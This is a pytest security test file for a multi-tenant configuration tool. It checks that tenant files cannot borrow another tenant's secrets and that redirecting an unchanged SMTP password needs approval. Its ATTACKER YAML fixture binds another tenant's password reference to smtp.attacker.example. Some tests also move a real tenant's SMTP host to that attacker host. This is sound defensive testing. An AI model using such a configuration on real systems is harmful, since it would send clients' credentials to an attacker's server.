"""Class 7: a tenant may not borrow another tenant's secret, and a secret sent somewhere
new is a sensitive change.

A tenant file names its secrets; the operator decides what they reach. Before, a new
tenant file referencing ``env:T4O_SECRET_KARTVERKSTEDET_SMTP_PASSWORD`` with its own SMTP
host validated cleanly: the system would have logged in to the attacker's server with
another client's password. Now each reference is bound to its tenant by name (or shared
by the operator, outside the repository), and moving where a secret goes while it stays
the same needs the approval a delete needs."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from t4o_reconcile.cli import main
from t4o_reconcile.config.loader import load_repository
from t4o_reconcile.config.secret_refs import SecretPolicy
from t4o_reconcile.engine.apply import check_applicable
from t4o_reconcile.engine.diff import make_plan
from t4o_reconcile.engine.snapshot import Item, Secret
from t4o_reconcile.render.json import render_json
from t4o_reconcile.render.markdown import render_markdown
from t4o_reconcile.render.text import render_text
from tests.e2e.conftest import Server, cli
from tests.e2e.helpers import edit_tenant, live_state
from tests.engine.builders import desired_tenant, live_twin, snapshot
from tests.security.canary import assert_no_canary, canaries_of, outputs, planted

STOLEN = "T4O_SECRET_KARTVERKSTEDET_SMTP_PASSWORD"
ATTACKER = """\
slug: evil-club
name: Evil Club
organization_number: "914820332"
billing:
  licenses: 1
invoicing:
  next_invoice_number: 1
email_account:
  account_name: Faktura
  display_name: Evil Club
  address: faktura@evil.example
  username: faktura
  password:
    secret: env:{reference}
  smtp_host: smtp.attacker.example
  smtp_port: 587
  encryption: starttls
"""


def _attack(folder: Path, reference: str = STOLEN, slug: str = "evil-club") -> Path:
    path = folder / f"{slug}.yaml"
    text = ATTACKER.format(reference=reference).replace("evil-club", slug)
    path.write_text(text, encoding="utf-8")
    return path


def plan_of(want: Any, have: Any) -> Any:
    return make_plan(want, have, target="test")


def _password_line(path: Path) -> int:
    lines = path.read_text(encoding="utf-8").splitlines()
    return next(i for i, line in enumerate(lines, 1) if line.startswith("  password:"))


# -- binding by name (unit)


def test_a_new_tenant_file_referencing_another_tenants_secret_is_refused_at_its_place(
    tmp_path: Path,
) -> None:
    shutil.copy(Path("examples/tenants/kartverkstedet.yaml"), tmp_path)
    attacker = _attack(tmp_path)
    environ = {STOLEN: "kartverkstedet's password"}

    result = load_repository(tmp_path, environ=environ)

    assert result.repository is None
    (problem,) = [p for p in result.problems if p.is_error]
    assert Path(problem.file) == attacker
    assert (problem.line, problem.column) == (_password_line(attacker), 3)
    assert problem.path == ("email_account", "password")
    assert f"environment variable {STOLEN} is not one of tenant evil-club's secrets" in (
        problem.message
    )
    assert "it names tenant kartverkstedet's secrets" in problem.message
    assert "T4O_SECRET_EVIL_CLUB_" in problem.message  # what would be accepted
    # kartverkstedet's own reference stays fine, and no value reached a message.
    assert "kartverkstedet's password" not in str(result.problems)


def test_validate_names_file_line_and_column_and_reads_no_value(tmp_path: Path) -> None:
    attacker = _attack(tmp_path)

    done = CliRunner().invoke(main, ["validate", str(tmp_path)], env={STOLEN: "CANARY-x"})

    assert done.exit_code == 1, done.output
    assert f"evil-club.yaml:{_password_line(attacker)}:3: email_account.password:" in done.output
    assert "CANARY-x" not in done.output


def test_a_longer_slugs_secrets_are_never_a_shorter_ones() -> None:
    policy = SecretPolicy()
    slugs = {"ok-skogen", "ok-skogen-ungdom"}
    ungdom = "env:T4O_SECRET_OK_SKOGEN_UNGDOM_SMTP_PASSWORD"

    assert policy.check(ungdom, "ok-skogen-ungdom", slugs) is None
    refused = policy.check(ungdom, "ok-skogen", slugs)
    assert refused is not None and "names tenant ok-skogen-ungdom's secrets" in refused
    assert policy.check("env:T4O_SECRET_OK_SKOGEN_SMTP_PASSWORD", "ok-skogen", slugs) is None
    # The prefix alone is no secret of anyone.
    assert policy.check("env:T4O_SECRET_OK_SKOGEN_", "ok-skogen", slugs) is not None
    assert policy.check("env:T4O_SECRET_OK_SKOGEN", "ok-skogen", slugs) is not None


def test_the_owner_of_a_name_is_the_same_among_many_slugs_and_in_any_order() -> None:
    """The owner is looked up by the name's own prefixes (issue 24: matching every slug
    was quadratic); the longest part still wins, and two slugs with one part resolve the
    same way every run."""
    policy = SecretPolicy()
    many = frozenset({f"club-{n:05d}" for n in range(5000)} | {"ok-skogen", "ok-skogen-ungdom"})
    ungdom = "env:T4O_SECRET_OK_SKOGEN_UNGDOM_SMTP_PASSWORD"
    assert policy.check(ungdom, "ok-skogen-ungdom", many) is None
    refused = policy.check(ungdom, "ok-skogen", many)
    assert refused is not None and "names tenant ok-skogen-ungdom's secrets" in refused
    assert policy.check("env:T4O_SECRET_CLUB_04999_KEY", "club-04999", many) is None
    refused = policy.check("env:T4O_SECRET_CLUB_04999_KEY", "club-00001", many)
    assert refused is not None and "names tenant club-04999's secrets" in refused
    # A list, a set or a frozenset of the same slugs: the same answer.
    for slugs in (["a--b", "a-b"], {"a-b", "a--b"}, frozenset({"a-b", "a--b"})):
        assert policy.check("env:T4O_SECRET_A_B_KEY", "a--b", slugs) is None
        refused = policy.check("env:T4O_SECRET_A_B_KEY", "a-b", slugs)
        assert refused is not None and "names tenant a--b's secrets" in refused


def test_secret_files_are_bound_to_the_tenants_folder() -> None:
    policy = SecretPolicy()

    assert policy.check("file:ok-skogen/smtp", "ok-skogen") is None
    for reference in ("file:kartverkstedet/smtp", "file:smtp", "file:ok-skogen"):
        refused = policy.check(reference, "ok-skogen")
        assert refused is not None and "ok-skogen/NAME" in refused, reference


def test_only_the_operator_shares_a_secret_and_a_tenant_file_cannot_widen_it(
    tmp_path: Path,
) -> None:
    shared = "T4O_SECRET_FEDERATION_SMTP"
    _attack(tmp_path, shared, "a-club")
    _attack(tmp_path, shared, "b-club")
    environ = {shared: "the federation's password"}

    refused = load_repository(tmp_path, environ=environ)
    allowed = load_repository(tmp_path, environ={**environ, "T4O_SHARED_SECRETS": shared})
    # The allow-list is the operator's: a tenant file cannot even read it as a secret.
    _attack(tmp_path, "T4O_SHARED_SECRETS", "c-club")
    read = load_repository(tmp_path, environ={**environ, "T4O_SHARED_SECRETS": shared})

    assert {Path(p.file).name for p in refused.problems if p.is_error} == {
        "a-club.yaml",
        "b-club.yaml",
    }
    assert allowed.repository is not None, allowed.problems
    (problem,) = [p for p in read.problems if p.is_error]
    assert Path(problem.file).name == "c-club.yaml"
    assert "T4O_SHARED_SECRETS is a setting of t4o-reconcile itself" in problem.message
    assert SecretPolicy.from_settings(environ={"T4O_SHARED_SECRETS": f" {shared}, x "}).shared == {
        shared,
        "x",
    }


# -- a secret sent to a new destination (unit)


def _moved(**changes: Any) -> tuple[Any, Any]:
    want = desired_tenant()
    account = want.sections.setdefault("email_account", {})
    account[""] = Item(
        {
            "account_name": "Faktura",
            "display_name": "OK Skogen",
            "address": "faktura@ok-skogen.no",
            "username": "faktura",
            "password": Secret("smtp-pass", "env:T4O_SECRET_OK_SKOGEN_SMTP_PASSWORD"),
            "smtp_host": "smtp.ok-skogen.no",
            "smtp_port": 587,
            "encryption": "starttls",
            "allow_unencrypted_password": False,
        }
    )
    have = live_twin(want)
    account[""].fields.update(changes)
    return want, have


@pytest.mark.parametrize(
    "change",
    [{"smtp_host": "smtp.attacker.example"}, {"smtp_port": 2525}, {"username": "other"}],
    ids=["host", "port", "username"],
)
def test_moving_an_unchanged_secret_needs_the_approval_of_a_delete(change: dict[str, Any]) -> None:
    want, have = _moved(**change)
    plan = plan_of(snapshot(want), snapshot(have))

    (tenant,) = plan.tenants
    (reason,) = tenant.deletes_need_flag
    (name, value) = next(iter(change.items()))
    assert reason.startswith("sensitive change: the email account's unchanged password")
    assert f"{name}: " in reason and str(value) in reason
    refused = check_applicable(plan, allow_deletes=False)
    assert any("needs --allow-deletes" in line and "sensitive change" in line for line in refused)
    assert check_applicable(plan, allow_deletes=True) == []
    # Shown in every format, as a guarded delete is.
    assert "needs approval (pass --allow-deletes to plan and apply): sensitive change" in (
        render_text(plan, color=False)
    )
    assert "⚠️ needs approval (pass `--allow-deletes` to plan and apply): sensitive change" in (
        render_markdown(plan)
    )
    document = json.loads(render_json(plan))
    assert any("sensitive change" in r for t in document["tenants"] for r in t["deletes_need_flag"])


def test_a_new_secret_with_the_new_destination_or_another_field_is_no_sensitive_change() -> None:
    want, have = _moved(smtp_host="smtp.new.example", password=Secret("new", "env:X"))
    assert plan_of(snapshot(want), snapshot(have)).tenants[0].deletes_need_flag == ()
    want, have = _moved(display_name="Renamed")
    assert plan_of(snapshot(want), snapshot(have)).tenants[0].deletes_need_flag == ()


# -- end to end: a real serve process and the real CLI


@pytest.mark.e2e
def test_the_kartverkstedet_attack_is_refused_and_nothing_is_sent(
    server: Server, examples_copy: Path
) -> None:
    secrets = planted()
    env = server.env(**secrets)
    assert cli("apply", examples_copy, "--auto-approve", env=env).returncode == 0
    before = live_state(server)
    attacker = _attack(examples_copy)
    where = f"evil-club.yaml:{_password_line(attacker)}:3: email_account.password:"

    runs = [
        cli("validate", examples_copy, env=env),
        cli("plan", examples_copy, env=env),
        cli("apply", examples_copy, "--auto-approve", env=env),
    ]

    for done in runs:
        assert done.returncode == 1, done.stdout + done.stderr
        assert where in done.stderr, done.stderr
        assert "it names tenant kartverkstedet's secrets" in done.stderr
    assert live_state(server) == before  # no tenant made, no password sent anywhere
    assert_no_canary(outputs(runs), canaries_of(server, secrets))


@pytest.mark.e2e
def test_an_smtp_host_change_with_the_same_password_needs_approval(
    server: Server, examples_copy: Path
) -> None:
    secrets = planted()
    env = server.env(**secrets)
    assert cli("apply", examples_copy, "--auto-approve", env=env).returncode == 0

    def move(doc: Any) -> None:
        doc["email_account"]["smtp_host"] = "smtp.attacker.example"

    edit_tenant(examples_copy, "ok-skogen", move)
    text = cli("plan", examples_copy, env=env)
    markdown = cli("plan", examples_copy, "--format", "markdown", env=env)
    as_json = cli("plan", examples_copy, "--format", "json", env=env)
    refused = cli("apply", examples_copy, "--auto-approve", env=env)
    unchanged = live_state(server)
    approved = cli("apply", examples_copy, "--auto-approve", "--allow-deletes", env=env)

    reason = "sensitive change: the email account's unchanged password would be sent"
    assert text.returncode == 0 and reason in text.stdout, text.stdout
    assert "smtp.attacker.example" in text.stdout
    assert reason.replace("'", "&#39;") in markdown.stdout, markdown.stdout
    flagged = {t["slug"]: t["deletes_need_flag"] for t in json.loads(as_json.stdout)["tenants"]}
    assert any(reason in r for r in flagged["ok-skogen"])
    assert refused.returncode == 1 and "needs --allow-deletes" in refused.stderr, refused.stderr
    host = unchanged["ok-skogen"]["email_account"]["smtp_host"]
    assert host != "smtp.attacker.example"
    assert approved.returncode == 0, approved.stderr
    assert live_state(server)["ok-skogen"]["email_account"]["smtp_host"] == "smtp.attacker.example"
    assert_no_canary(
        outputs([text, markdown, as_json, refused, approved]), canaries_of(server, secrets)
    )
